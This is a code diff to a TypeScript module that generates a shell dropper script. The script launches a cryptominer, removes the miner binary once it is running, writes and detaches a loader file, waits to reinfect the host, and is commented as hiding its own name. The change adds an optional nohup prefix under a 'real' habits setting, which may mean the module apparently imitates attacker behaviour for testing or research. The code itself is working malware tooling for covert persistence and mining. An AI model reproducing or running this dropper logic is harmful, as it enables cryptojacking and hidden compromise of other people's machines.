@@ -1,6 +1,6 @@
 import { posix } from 'node:path';
 import { quote } from '../shell.ts';
-import type { Infection } from './infection.ts';
+import type { Habits, Infection } from './infection.ts';
 import { loaderUrl } from './infection.ts';
 import {
   guardPayload,
@@ -34,7 +34,7 @@ export function dropperScript(infection: Infection): string {
       ? [started(miner.path, minerCommand(miner), minerProgram(miner), 'MINER')]
       : []),
     ...(miner?.deleted === true && guard === null ? [removedOnceRunning(miner.path)] : []),
-    ...(loader === null ? [] : [loaderFile(loader.path, loaderText(infection, loaderUrl))]),
+    ...(loader === null ? [] : [loaderFile(loader.path, loaderText(infection, loaderUrl), infection.habits)]),
     ...(reinfect === null ? [] : [waiting(infection, reinfect)]),
     ':',
     '',
@@ -68,11 +68,11 @@ function removedOnceRunning(path: string): string {
   return `[ $last = 1 ] || until [ /proc/$last/exe -ef ${quote(path)} ] || ! kill -0 $last; do sleep 0.02; done; rm -f ${quote(path)}`;
 }
 
-function loaderFile(path: string, text: string): string {
+function loaderFile(path: string, text: string, habits: Habits): string {
   const target = quote(path);
   return `[ -e ${target} ] || cat >${target} <<'LOADER'
 ${text}LOADER
-printf '%s' ${target} | grep -qsF -f - /proc/[0-9]*/cmdline || { (exec setsid sh ${target} >/dev/null 2>&1 </dev/null) & }`;
+printf '%s' ${target} | grep -qsF -f - /proc/[0-9]*/cmdline || { (exec setsid ${habits === 'real' ? 'nohup ' : ''}sh ${target} >/dev/null 2>&1 </dev/null) & }`;
 }
 
 /** Waits for the end of what was started last (guard, else miner), and carries the dropper so that no name shows. */
